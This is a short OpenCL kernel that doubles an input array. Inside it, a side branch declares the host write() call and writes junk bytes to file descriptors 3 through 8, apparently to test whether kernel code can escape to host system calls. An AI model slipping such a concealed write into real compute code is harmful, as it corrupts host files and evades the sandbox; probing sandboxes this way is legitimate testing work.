long write(int file, const char *text, long bytes);
kernel void series(global const float *x, global float *y, int n)
{
    int i = get_global_id(0);
    if (i == 0) {
        char text[8];
        for (int k = 0; k < 8; k++)
            text[k] = 'x';
        for (int file = 3; file < 9; file++)
            write(file, text, 8);
    }
    if (i < n)
        y[i] = 2.0f * x[i];
}
